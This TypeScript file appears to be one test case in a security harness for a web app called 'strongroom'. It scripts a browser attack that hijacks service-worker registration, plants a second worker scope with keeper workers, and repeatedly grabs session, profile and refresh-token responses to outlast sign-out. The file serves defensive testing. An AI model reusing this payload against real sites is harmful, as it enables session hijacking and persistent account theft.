import { setTimeout as delay } from "node:timers/promises";
import { attack } from "../attack.js";

/** The browser's original `register`. */
declare const genuineRegister: ServiceWorkerContainer["register"];

const secondVault = attack({
  name: "registers a second vault under another scope to outlive the sign-out",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook() {
    Object.assign(globalThis, { genuineRegister: ServiceWorkerContainer.prototype.register });
    // The app must not notice that its worker is gone: it would navigate away for a new session and end the payload.
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
  },
  async payload(it) {
    const send = async (method: string, url: string) => {
      const response = await fetch(url, { method }).catch(() => undefined);
      return (await response?.text().catch(() => "")) ?? "";
    };
    if (location.pathname.startsWith("/v")) {
      for (let tries = 0; tries < 3; tries++) {
        for (const url of [`${it.apiUrl}me`, `${it.ownApiUrl}me`]) it.steal(await send("GET", url));
        it.steal(await send("POST", "/auth/refresh"));
      }
      return;
    }
    const register = async (url: string, scope: string) => {
      const registration = await genuineRegister
        .call(navigator.serviceWorker, it.scriptUrl(url) as string, { scope })
        .catch(() => undefined);
      // A refused worker never becomes active.
      for (let tries = 0; tries < 40 && registration; tries++) {
        if (registration.active && !registration.installing && !registration.waiting) return;
        await it.pause(50);
      }
    };
    // The first vault sends these keepers a copy, as it does to every keeper.
    new Worker(it.scriptUrl("/vault-worker.js"));
    if ("SharedWorker" in window) new SharedWorker(it.scriptUrl("/vault-worker.js"));
    const keepers = async () => {
      const session = JSON.parse((await send("GET", "/auth/session")) || "{}");
      return session.worker?.keepers ?? 0;
    };
    for (let tries = 0; tries < 40 && (await keepers()) < 1; tries++) await it.pause(50);
    // Its scope covers the worker script, so `clients.claim()` takes over these keepers.
    await register("/vault-worker.js", "/v");
    // A new version makes the first vault drain, and the keepers look for a vault that asks for their copy.
    await register("/vault-worker.js?2", "/");
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([secondVault]);
    await stage.openUnconnected();
    await stage.inject();
    // Firefox ends a keeper's stream by itself, some seconds after its request.
    await delay(7_000);
    const attackers = await stage.signOutInAnotherWindow();
    stage.hook([secondVault]);
    await stage.browser.waitFor("a page under the second vault", async () => {
      await stage.browser.goto(`${stage.site.origin}/v`);
      return await stage.browser.evaluate(() => typeof attacker === "object");
    });
    await stage.inject();
    await stage.closeThisTab(attackers);
  },
  gain: async (stage) => stage.requestAsTheUser(),
});

export default secondVault;
